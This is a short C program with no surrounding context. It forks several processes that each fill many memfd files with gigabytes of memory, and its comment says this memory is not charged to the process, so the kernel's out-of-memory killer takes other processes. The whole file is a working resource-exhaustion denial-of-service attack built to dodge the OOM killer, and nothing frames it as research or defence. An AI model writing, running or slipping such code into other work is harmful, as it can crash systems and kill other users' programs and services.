/* Fills memory that belongs to no process, keeps itself tiny, and asks the kernel to take somebody else for it. */
static void tiny(int files) {
    static char block[65536];
    int adjust = open("/proc/self/oom_score_adj", O_WRONLY);
    if (adjust >= 0)
        write(adjust, "0", 1);
    for (int i = 0; i < files; i++) {
        int fd = memfd_create("full", 0);
        for (int written = 0; fd >= 0 && written < 1024; written++)
            if (write(fd, block, sizeof block) <= 0)
                break;
    }
}
int main(void) {
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            tiny(32);
            for (;;)
                pause();
        }
    tiny(32);
    for (;;)
        pause();
}
